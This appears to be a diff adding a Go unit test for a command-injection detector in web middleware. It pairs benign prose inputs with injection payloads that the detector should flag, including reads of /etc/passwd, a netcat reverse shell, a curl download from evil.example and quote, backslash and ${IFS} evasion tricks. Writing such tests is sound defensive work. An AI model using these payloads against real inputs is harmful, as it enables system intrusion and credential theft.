@@ -0,0 +1,39 @@
+package middleware
+
+import "testing"
+
+func TestDetectCommandInjection(t *testing.T) {
+	tests := []struct {
+		name  string
+		input string
+		want  bool
+	}{
+		{"host name", "example.com", false},
+		{"ampersand in prose", "Tom & Jerry; cat lovers welcome", false},
+		{"pipe in prose", "small | medium | large", false},
+		{"sleep in prose", "I need sleep; tomorrow", false},
+		{"semicolon list", "id; name; email", false},
+		{"dollar amount", "$(5) off", false},
+
+		{"chained cat", "127.0.0.1; cat /etc/passwd", true},
+		{"pipe whoami", "x | whoami", true},
+		{"and id", "x && id", true},
+		{"backticks", "`id`", true},
+		{"subshell", "$(uname -a)", true},
+		{"newline", "foo\nls -la", true},
+		{"full path", "x;/bin/bash -i", true},
+		{"time based", "x; sleep 10", true},
+		{"ping", "x | ping -c 3 attacker.example", true},
+		{"reverse shell", "x; nc -e /bin/sh 10.0.0.1 4444", true},
+		{"quote evasion", "x;c'a't /etc/hosts", true},
+		{"backslash evasion", `x;w\hoami`, true},
+		{"IFS evasion", "x;cat${IFS}/etc/passwd", true},
+		{"windows", "x & type C:\\boot.ini", true},
+		{"download", "x; curl http://evil.example/x.sh", true},
+	}
+	for _, tt := range tests {
+		if got, reason := DetectCommandInjection(tt.input); got != tt.want {
+			t.Errorf("%s: expected %v, got %v (%s)", tt.name, tt.want, got, reason)
+		}
+	}
+}